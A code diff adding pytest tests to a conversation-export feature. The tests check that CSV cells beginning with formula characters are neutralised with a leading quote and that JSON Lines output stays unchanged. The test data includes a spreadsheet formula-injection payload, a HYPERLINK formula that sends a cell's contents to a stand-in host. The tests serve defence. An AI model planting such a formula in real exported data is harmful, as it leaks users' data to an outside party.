@@ -191,3 +191,38 @@ async def test_the_cli_writes_the_file(known: tuple[Known, Any], tmp_path: Path)
     assert result.returncode == 0, result.stderr
     assert "Exported 6 conversations" in result.stderr
     assert [json.loads(line) for line in out.read_text().splitlines()] == await _all(known[1])
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        (
+            '=HYPERLINK("http://x.example/?d="&A2,"open")',
+            '\'=HYPERLINK("http://x.example/?d="&A2,"open")',
+        ),
+        ("+1 246 555 0123", "'+1 246 555 0123"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\tcmd", "'\tcmd"),
+        ("\rcmd", "'\rcmd"),
+        ("Ann Smith", "Ann Smith"),
+        (-3, "-3"),  # a number is a number
+        (None, ""),
+        (True, "true"),
+    ],
+)
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(value: Any, written: str) -> None:
+    assert csv_value(value) == written
+
+
+async def test_a_customer_named_like_a_formula_is_exported_inert(desk: Desk) -> None:
+    formula = '=HYPERLINK("http://x.example/?d="&A2,"open")'
+    await desk.queued("123456", channel=Channel.TELEGRAM, display_name=formula)
+    await desk.rep("sue", Role.SUPERVISOR)
+    sue = await desk.auth("sue")
+    exported = await desk.http.get("/api/export", params={"format": "csv"}, headers=sue)
+    [row] = list(csv.DictReader(io.StringIO(exported.text)))
+    assert row["customer_name"] == "'" + formula
+    # JSON Lines is data, not a spreadsheet: unchanged.
+    lines = await desk.http.get("/api/export", params={"format": "jsonl"}, headers=sue)
+    assert json.loads(lines.text)["customer_name"] == formula
